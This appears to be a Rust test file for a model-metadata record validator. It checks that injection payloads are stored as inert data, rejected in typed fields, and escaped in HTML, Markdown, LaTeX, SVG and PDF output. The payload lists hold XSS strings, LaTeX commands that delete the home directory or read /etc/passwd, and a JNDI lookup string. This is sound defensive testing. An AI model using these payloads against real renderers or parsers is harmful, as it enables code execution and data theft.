pub const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<![CDATA[x]]>",
    "javascript:alert(1)",
    "\\input{/etc/passwd}",
    "\\immediate\\write18{rm -rf ~}",
    "\\def\\x{\\x}\\x",
    "$$\\begin{verbatim}x\\end{verbatim}$$",
    "% & # _ ^ ~ { } \\",
    "[click](javascript:alert(1))",
    "![x](https://example.invalid/track.png)",
    "<!-- hidden -->",
    "# Heading\n\n| a | b |\n|---|---|\n",
    "```\ncode\n```",
    "\u{202e}txt.exe",
    "{{7*7}} ${jndi:ldap://example.invalid/a}",
];

/// The text fields of a record (paths into the value), with a payload in each.
fn injected_record(payload: &str) -> Value {
    json!({
        "format_version": "1.0",
        "kind": "model",
        "name": "inj",
        "version": "1.0.0",
        "title": payload,
        "description": [payload, payload],
        "publisher": payload,
        "license": {"name": payload, "url": "https://example.invalid/l"},
        "tags": [payload],
        "upstream": [{"name": "base", "relation": "finetune", "note": payload}],
        "details": {
            "architecture": payload,
            "model_type": payload,
            "modalities": {"input": [payload], "output": [payload]},
            "languages": [payload],
            "library": payload,
            "pipeline_tag": payload,
            "quantization": payload,
            "precision": payload,
            "size": payload,
            "compute": payload,
            "co2_eq_emissions": {"note": payload}
        },
        "card": {
            "intended_use": payload,
            "out_of_scope_use": [payload],
            "factors": payload,
            "training_data": payload,
            "evaluation_data": payload,
            "limitations": payload,
            "ethical_considerations": payload,
            "recommendations": payload,
            "additional_information": payload
        },
        "evaluations": [{
            "task": payload, "task_name": payload, "dataset": payload,
            "dataset_name": payload, "dataset_config": payload, "dataset_split": payload,
            "dataset_revision": payload, "metric": payload, "metric_name": payload,
            "metric_config": payload, "value": payload, "source_name": payload
        }],
        "risks": [{
            "id": payload, "title": payload, "description": payload,
            "status": "mitigated", "justification": payload
        }],
        "transparency": {"edition": "fmti2023", "answers": {"data_size": {"value": true, "note": payload}}},
        "extensions": {"x": payload, payload: payload}
    })
}

#[test]
fn injection_payloads_are_data() {
    for p in PAYLOADS {
        let v = injected_record(p);
        for (text, syntax) in both_syntaxes(&v) {
            let r = accepted(&check(&text, syntax));
            assert_eq!(r.value(), &v, "kept exactly");
            // canonical forms keep them exactly too
            assert_eq!(accepted(&check(&r.to_yaml(), Syntax::Yaml)).value(), &v);
            assert_eq!(accepted(&check(&r.to_json(), Syntax::Json)).value(), &v);
        }
    }
}

#[test]
fn injection_payloads_in_typed_fields_are_refused() {
    for p in PAYLOADS {
        let base =
            json!({"format_version": "1.0", "kind": "model", "name": "inj", "version": "1.0.0"});
        for (field, value, code) in [
            ("name", json!(p), "E_NAME"),
            ("version", json!(p), "E_SEMVER"),
            ("release_date", json!(p), "E_DATE"),
            ("references", json!([p]), "E_URL"),
            ("license", json!(p), "E_LICENSE"),
            ("kind", json!(p), "E_ENUM"),
        ] {
            let mut v = base.clone();
            v[field] = value;
            let c = check(&serde_json::to_string(&v).unwrap(), Syntax::Json);
            let codes = errors(&c);
            assert!(
                codes.iter().any(|c| c == code),
                "{field} = {p:?}: {:?}",
                c.diagnostics
            );
        }
    }
    // URL fields take only http, https and mailto
    for url in [
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:x",
        "file:///etc/passwd",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
    ] {
        let v = json!({"format_version": "1.0", "kind": "model", "name": "inj",
            "version": "1.0.0", "references": [url]});
        refused(
            &check(&serde_json::to_string(&v).unwrap(), Syntax::Json),
            "E_URL",
        );
    }
}

#[test]
fn injection_fixture_validates() {
    let c = check_file(
        &fixture("injection/injection-1.0.0.yaml"),
        &Limits::default(),
    );
    let r = accepted(&c);
    assert_eq!(r.name(), "injection");
    assert!(r.value()["title"].as_str().unwrap().contains("<script>"));
}

// ---------------------------------------------------------------------------------------
// Values handed in by a binding (no text to parse)
// ---------------------------------------------------------------------------------------

/// A record value with `inner` under `extensions.x`, built without recursion (the `json!`
/// macro serialises its arguments recursively).
fn with_extension(inner: Value) -> Value {
    let mut ext = serde_json::Map::new();
    ext.insert("x".into(), inner);
    let mut v =
        json!({"format_version": "1.0", "kind": "model", "name": "demo", "version": "1.0.0"});
    v.as_object_mut()
        .unwrap()
        .insert("extensions".into(), Value::Object(ext));
    v
}

/// A list nested `levels` deep (the outermost list is level 1), built without recursion.
fn nested_list(levels: usize) -> Value {
    let mut inner = json!(1);
    for _ in 0..levels {
        inner = Value::Array(vec![inner]);
    }
    inner
}

/// `Record::from_value` (the entry point of Python `from_dict` and JS objects) applies the
/// same limits as the parsers, at the same boundaries.
#[test]
fn from_value_applies_the_limits() {
    // root (1) + extensions (2) + x: a list of 62 levels = 64
    assert!(Record::from_value(with_extension(nested_list(62))).is_ok());
    let e = Record::from_value(with_extension(nested_list(63))).unwrap_err();
    assert_eq!(e.code(), "E_LIMIT_DEPTH");
    let many = Value::Array(vec![json!(1); Limits::default().max_nodes]);
    assert_eq!(
        Record::from_value(with_extension(many)).unwrap_err().code(),
        "E_LIMIT_NODES"
    );
    let long = json!("x".repeat(Limits::default().max_string_bytes + 1));
    assert_eq!(
        Record::from_value(with_extension(long)).unwrap_err().code(),
        "E_LIMIT_STRING"
    );
    // 10,000 levels: refused, no overflow on a 2 MiB test thread
    let e = Record::from_value(with_extension(nested_list(10_000))).unwrap_err();
    assert_eq!(e.code(), "E_LIMIT_DEPTH");
}

/// A value nested a million levels deep (a Python list built with `x = [x]` in a loop) is
/// refused with E_LIMIT_DEPTH by the iterative limit check, and the refused value is then
/// freed iteratively (`limits::drop_iteratively`): serde_json's own recursive `Drop`
/// would overflow the stack and abort. Runs in a child process so that an abort fails
/// only this test.
#[test]
fn from_value_refuses_a_million_levels_without_overflow() {
    bounded(
        "from_value_refuses_a_million_levels_without_overflow",
        120,
        4096,
        || {
            let v = with_extension(nested_list(1_000_000));
            let e = Record::from_value(v).unwrap_err();
            assert_eq!(e.code(), "E_LIMIT_DEPTH");
        },
    );
}

/// A number read from JSON is the same double as the same number read from YAML, so a
/// record saved as JSON reads back unchanged (serde_json's `float_roundtrip` feature; found
/// by the `hf_card` fuzz target on a real card: `value: 0.48363715971010235`).
#[test]
fn json_floats_read_exactly() {
    for s in [
        "0.48363715971010235",
        "2.2250738585072011e-308",
        "0.30000000000000004",
    ] {
        let text = |syntax: Syntax| {
            match syntax {
            Syntax::Yaml => format!("{HEAD}extensions:\n  v: {s}\n"),
            Syntax::Json => format!(
                "{{\"format_version\":\"1.0\",\"kind\":\"model\",\"name\":\"demo\",\"version\":\"1.0.0\",\"extensions\":{{\"v\":{s}}}}}"
            ),
        }
        };
        let y = accepted(&check(&text(Syntax::Yaml), Syntax::Yaml));
        let j = accepted(&check(&text(Syntax::Json), Syntax::Json));
        let exact: f64 = s.parse().unwrap();
        assert_eq!(
            y.value()["extensions"]["v"].as_f64(),
            Some(exact),
            "YAML {s}"
        );
        assert_eq!(
            j.value()["extensions"]["v"].as_f64(),
            Some(exact),
            "JSON {s}"
        );
        // and a YAML record saved as JSON reads back unchanged
        let back = accepted(&check(&y.to_json(), Syntax::Json));
        assert_eq!(back.value(), y.value(), "{s}");
    }
}

// ---------------------------------------------------------------------------------------
// Rendering: a cross-check of the renderers' escaping from outside
// ---------------------------------------------------------------------------------------

/// One payload for every output language, with markers that are easy to spot live.
const MARKED: &str = "<umr-x onumrx=1>\"><umr-x onumrx=2>' onumrx='3 </style><script>alert(1)</script> \\umrx{1} \\write18{id} \\input{/etc/passwd} [l](javascript:umrx()) <!-- c --> ]]> $ & # % _ ^ ~ { } | \u{202e}rtl";

/// True when `needle` occurs not preceded by an odd number of backslashes.
fn has_unescaped(s: &str, needle: &str) -> bool {
    s.match_indices(needle).any(|(i, _)| {
        let slashes = s[..i].bytes().rev().take_while(|b| *b == b'\\').count();
        slashes % 2 == 0
    })
}

fn assert_inert(what: &str, format: umr_core::render::Format, bytes: &[u8], marked: bool) {
    use umr_core::render::Format;
    if format == Format::Pdf {
        assert!(bytes.starts_with(b"%PDF-"), "{what}");
        let s = String::from_utf8_lossy(bytes);
        for bad in ["/S /JavaScript", "/S/JavaScript", "/Launch", "/SubmitForm"] {
            assert!(!s.contains(bad), "{what}: {bad}");
        }
        return;
    }
    let s = std::str::from_utf8(bytes).unwrap();
    assert!(!s.contains('\u{202e}'), "{what}: bidi override kept");
    match format {
        Format::Html | Format::Svg => {
            let l = s.to_ascii_lowercase();
            if marked && format == Format::Html {
                assert!(
                    l.contains("&lt;umr-x"),
                    "{what}: the payload is shown, escaped"
                );
            }
            for bad in [
                "<umr-x",
                "<script",
                "\" onumrx",
                "' onumrx",
                "href=\"javascript:",
            ] {
                assert!(!l.contains(bad), "{what}: live `{bad}`");
            }
        }
        Format::Markdown => {
            assert!(
                !marked || s.contains("umr-x") || s.contains("umr\\-x"),
                "{what}: payload shown"
            );
            for bad in ["<umr-x", "<script", "](javascript:", "<!--"] {
                assert!(!has_unescaped(s, bad), "{what}: live `{bad}`");
            }
        }
        Format::Latex => {
            assert!(!marked || s.contains("umrx"), "{what}: payload shown");
            for bad in ["\\umrx", "\\write18", "\\input{/etc"] {
                assert!(!has_unescaped(s, bad), "{what}: live `{bad}`");
            }
        }
        Format::Pdf => {}
    }
}

#[test]
fn rendering_hostile_records_is_inert() {
    use umr_core::render::{render, Format, View};
    let mut parent = injected_record(MARKED);
    parent["name"] = json!("base");
    parent.as_object_mut().unwrap().remove("upstream");
    parent["risks"] = json!([{"id": "r", "title": MARKED, "description": MARKED}]);
    let child = injected_record(MARKED);
    let recs = vec![
        Record::from_value(parent).unwrap(),
        Record::from_value(child).unwrap(),
    ];
    let reg = umr_core::Registry::from_records(recs.clone()).unwrap();
    for spec in ["base", "inj"] {
        let view = View::from_registry(&reg, spec).unwrap();
        for f in Format::ALL {
            let out = render(&view, f).unwrap();
            assert_inert(&format!("{spec} from the registry, {f:?}"), f, &out, true);
        }
    }
    for r in &recs {
        let view = View::from_record(r);
        for f in Format::ALL {
            let out = render(&view, f).unwrap();
            assert_inert(&format!("{} alone, {f:?}", r.name()), f, &out, true);
        }
    }
    // the fixture, as a lone record (the path the WebAssembly validator page uses)
    let fx = Record::load(
        fixture("injection/injection-1.0.0.yaml"),
        &Limits::default(),
    )
    .unwrap();
    for f in Format::ALL {
        let out = render(&View::from_record(&fx), f).unwrap();
        assert_inert(&format!("fixture, {f:?}"), f, &out, false);
    }
}

/// A mapping key longer than the string limit is refused in YAML and in an in-memory value
/// (`check_value_limits` checks keys), so JSON text must refuse it too: the same record
/// must not load from JSON text and fail from a Python dict or a JS object.
#[test]
fn long_keys_are_refused_in_json_too() {
    let key = "k".repeat(Limits::default().max_string_bytes + 1);
    let yaml = format!("{HEAD}extensions:\n  {key}: 1\n");
    refused(&check(&yaml, Syntax::Yaml), "E_LIMIT_STRING");
    let mut ext = serde_json::Map::new();
    ext.insert(key.clone(), json!(1));
    assert_eq!(
        Record::from_value(with_extension(Value::Object(ext)))
            .unwrap_err()
            .code(),
        "E_LIMIT_STRING"
    );
    let json = format!(
        "{{\"format_version\":\"1.0\",\"kind\":\"model\",\"name\":\"demo\",\"version\":\"1.0.0\",\"extensions\":{{\"{key}\":1}}}}"
    );
    refused(&check(&json, Syntax::Json), "E_LIMIT_STRING");
}

/// The canonical YAML of every valid record reads back. YAML limits an implicit key
/// (`key: value`) to 1,024 characters, so keys longer than that (valid: under the string
/// limit; from JSON, a dict, or YAML with escapes) are written as explicit keys (`? key`),
/// at the top level, nested, in a sequence item and with nested values. Found by the
/// `parse_yaml` and `legacy` fuzz targets (seeds in tests/hostile/fuzz/).
#[test]
fn canonical_yaml_of_long_keys_reads_back() {
    for n in [1_000usize, 1_023, 5_000] {
        let mut ext = serde_json::Map::new();
        ext.insert("k".repeat(n), json!(1));
        ext.insert(format!("\u{12}{}", "c".repeat(n / 6)), json!(2));
        ext.insert(
            format!("n{}", "'".repeat(n)),
            json!({ "a": [1, 2], "b": {} }),
        );
        ext.insert(
            "list".into(),
            json!([{ "k".repeat(n + 1): { "deep": "x" }, "short": null }, [{ "m".repeat(n): [] }]]),
        );
        let r = Record::from_value(with_extension(Value::Object(ext))).unwrap();
        let y = r.to_yaml();
        let back = accepted(&check(&y, Syntax::Yaml));
        assert_eq!(back.value(), r.value(), "key of {n} characters");
    }
}
